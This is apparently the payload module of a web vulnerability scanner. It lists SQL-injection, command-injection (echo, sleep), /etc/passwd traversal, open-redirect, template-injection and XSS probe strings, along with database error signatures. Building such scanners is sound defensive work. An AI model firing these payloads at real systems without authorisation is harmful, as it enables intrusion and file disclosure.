/**
 * The attack checks' payloads and signatures, as data (docs/web-testing.md lists them). `{v}`
 * stands for the parameter's original value, `{m}` for a marker unique to the request, `{a}`
 * and `{b}` for two numbers, `{d}` for a delay in seconds. None deletes, writes a file, shuts
 * anything down or reaches another host: the command payloads only `echo`, `expr` and `sleep`,
 * the SQL payloads only compare and wait.
 */

/** Database error messages, per database (an error page that shows one proves the input reached SQL text). */
export const SQL_ERRORS: ReadonlyArray<{ database: string; pattern: RegExp }> = [
  {
    database: 'MySQL/MariaDB',
    pattern:
      /You have an error in your SQL syntax|check the manual that (?:corresponds|fits) to your (?:MySQL|MariaDB)/i,
  },
  {
    database: 'MySQL/MariaDB',
    pattern:
      /Warning: mysqli?_[a-z_]+\(\)|mysqli_sql_exception|MySqlException|com\.mysql\.jdbc|Unclosed quotation mark after the character string|SQLSTATE\[42000\]/i,
  },
  { database: 'MySQL/MariaDB', pattern: /Unknown column '[^']+' in '(?:where|field list|order) clause'/i },
  {
    database: 'PostgreSQL',
    pattern:
      /syntax error at or near "|unterminated quoted string at or near|unterminated quoted identifier at or near/i,
  },
  {
    database: 'PostgreSQL',
    pattern:
      /pg_query\(\): Query failed|PSQLException|PG::SyntaxError|org\.postgresql\.util|ERROR:\s+syntax error at end of input/i,
  },
  {
    database: 'SQLite',
    pattern:
      /SQLite3?::(?:query|exec)|SQLITE_ERROR|sqlite3\.OperationalError|near "[^"]*": syntax error|unrecognized token: "/i,
  },
  {
    database: 'Microsoft SQL Server',
    pattern:
      /Microsoft OLE DB Provider for SQL Server|\[SQL Server\]|ODBC SQL Server Driver|SqlException|Incorrect syntax near '|Unclosed quotation mark after/i,
  },
  {
    database: 'Oracle',
    pattern:
      /\bORA-0(?:0933|0921|1756|0936|1740)\b|Oracle error|quoted string not properly terminated|oracle\.jdbc/i,
  },
];

/** What breaks SQL text: a lone quote of each kind, a backslash, a parenthesis. */
export const SQL_BREAKERS: readonly string[] = ["{v}'", '{v}"', "{v}')", '{v}\\'];

/**
 * Boolean pairs: the true one must answer like the original, the false one differently; a
 * second pair of another form confirms. Quote contexts first, then numeric.
 */
export const SQL_BOOLEAN_PAIRS: ReadonlyArray<{
  context: string;
  proofs: ReadonlyArray<readonly [string, string]>;
}> = [
  {
    context: 'quoted string',
    proofs: [
      ["{v}' AND '{a}'='{a}", "{v}' AND '{a}'='{b}"],
      ["{v}' AND {a}={a}-- -", "{v}' AND {a}={b}-- -"],
    ],
  },
  {
    context: 'double-quoted string',
    proofs: [
      ['{v}" AND "{a}"="{a}', '{v}" AND "{a}"="{b}'],
      ['{v}" AND {a}={a}-- -', '{v}" AND {a}={b}-- -'],
    ],
  },
  {
    context: 'number',
    proofs: [
      ['{v} AND {a}={a}', '{v} AND {a}={b}'],
      ['{v} AND {b}>{a}', '{v} AND {a}>{b}'],
    ],
  },
];

/** Time-based payloads: `{d}` seconds of delay. Each is proven twice against a baseline. */
export const SQL_DELAYS: ReadonlyArray<{ database: string; payload: string }> = [
  { database: 'MySQL/MariaDB', payload: "{v}' AND SLEEP({d})-- -" },
  { database: 'MySQL/MariaDB', payload: '{v} AND SLEEP({d})' },
  { database: 'PostgreSQL', payload: "{v}' AND (SELECT 1 FROM pg_sleep({d})) IS NOT NULL-- -" },
  { database: 'PostgreSQL', payload: '{v} AND (SELECT 1 FROM pg_sleep({d})) IS NOT NULL' },
  { database: 'Microsoft SQL Server', payload: "{v}'; WAITFOR DELAY '0:0:{d}'-- -" },
];

/** Payloads whose output proves a shell ran them: `{a}+{b}` is computed, so the answer holds `{m}{sum}` and the request does not. */
export const COMMAND_ECHOES: readonly string[] = [
  ';echo {m}$(({a}+{b}))',
  '|echo {m}$(({a}+{b}))',
  '&&echo {m}$(({a}+{b}))',
  '{v};echo {m}$(({a}+{b}))',
  '{v}|echo {m}$(({a}+{b}))',
  '$(echo {m}$(({a}+{b})))',
  '`echo {m}$(({a}+{b}))`',
  '\necho {m}$(({a}+{b}))',
  "';echo {m}$(({a}+{b}));'",
  '";echo {m}$(({a}+{b}));"',
];

/** Blind command payloads: `sleep {d}`, proven twice against a baseline. */
export const COMMAND_DELAYS: readonly string[] = [
  ';sleep {d}',
  '|sleep {d}',
  '$(sleep {d})',
  '`sleep {d}`',
  '\nsleep {d}',
];

/** Files every Unix host has, and what proves they were read. */
export const TRAVERSAL_PAYLOADS: ReadonlyArray<{ payload: string; inclusion?: true; base64?: true }> = [
  { payload: '/etc/passwd' },
  { payload: '../../../../../../../../../../etc/passwd' },
  { payload: '....//....//....//....//....//....//....//....//etc/passwd' },
  { payload: '..//..//..//..//..//..//..//..//..//..//etc//passwd' },
  { payload: './../../../../../../../../../../etc/passwd' },
  { payload: '/etc/./passwd' },
  { payload: 'file:///etc/passwd', inclusion: true },
  { payload: 'php://filter/convert.base64-encode/resource=/etc/passwd', inclusion: true, base64: true },
  { payload: '../../../../../../../../../../etc/passwd%00' },
];
export const PASSWD_SIGNATURE = /\broot:[x*!]?:0:0:[^\n]*:\/[^\n]*:/;

/** Hosts of ours that cannot exist (`.invalid`, RFC 2606): an open redirect sends the browser there. */
export const REDIRECT_HOST = 'scanward-redirect.invalid';
export const REDIRECT_PAYLOADS: readonly string[] = [
  'https://{m}.scanward-redirect.invalid/',
  '//{m}.scanward-redirect.invalid/',
  'https:/\\{m}.scanward-redirect.invalid/',
  '/\\{m}.scanward-redirect.invalid/',
];

/** Template expressions: `{a}*{b}` computed shows `{m}{product}` in the answer; different numbers confirm. */
export const TEMPLATE_PAYLOADS: ReadonlyArray<{ engine: string; payload: string }> = [
  { engine: 'Jinja2/Twig/Nunjucks/Handlebars-like', payload: '{m}{{{a}*{b}}}' },
  { engine: 'Freemarker/JSP EL/Thymeleaf/JS template literal', payload: '{m}${{a}*{b}}' },
  { engine: 'ERB/EJS', payload: '{m}<%= {a}*{b} %>' },
  { engine: 'Ruby interpolation/Pug', payload: '{m}#{{a}*{b}}' },
  { engine: 'Razor/Velocity', payload: '{m}@({a}*{b})' },
];

/** XSS probes: the first shows where a marker lands; the others must come back as elements that run it. */
export const XSS_PAYLOADS: Readonly<Record<'element' | 'attribute' | 'script', readonly string[]>> = {
  element: ['<svg onload={m}(1)>', '<img src=x onerror={m}(2)>', '<details open ontoggle={m}(3)>'],
  attribute: ['"><svg onload={m}(1)>', "'><img src=x onerror={m}(2)>", '" autofocus onfocus={m}(3) x="'],
  script: ['</script><svg onload={m}(1)>', "';{m}(2);//", '";{m}(3);//'],
};

/** Fills a payload's placeholders. */
export function fill(
  template: string,
  values: { v?: string; m?: string; a?: number; b?: number; d?: number },
): string {
  return template
    .replaceAll('{v}', values.v ?? '')
    .replaceAll('{m}', values.m ?? '')
    .replaceAll('{a}', String(values.a ?? 0))
    .replaceAll('{b}', String(values.b ?? 0))
    .replaceAll('{d}', String(values.d ?? 0));
}
